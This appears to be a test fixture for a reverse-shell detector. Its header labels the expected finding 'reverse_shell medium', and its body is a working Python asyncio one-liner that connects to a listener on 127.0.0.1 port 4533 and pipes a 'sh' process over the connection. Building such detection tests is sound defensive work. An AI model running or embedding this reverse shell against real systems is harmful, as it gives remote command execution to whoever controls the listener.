# about: asyncio connects, and copies between the connection and a shell on pipes
# expect: reverse_shell medium
# needs: python3
proven 4533
timeout 7 python3 -c 'import asyncio
async def copy(r,w):
    while d:=await r.read(4096): w.write(d); await w.drain()
async def main():
    r,w=await asyncio.open_connection("127.0.0.1",4533)
    p=await asyncio.create_subprocess_exec("sh",stdin=-1,stdout=-1,stderr=-2)
    asyncio.ensure_future(copy(r,p.stdin)); await copy(p.stdout,w)
asyncio.run(main())' || true
answered
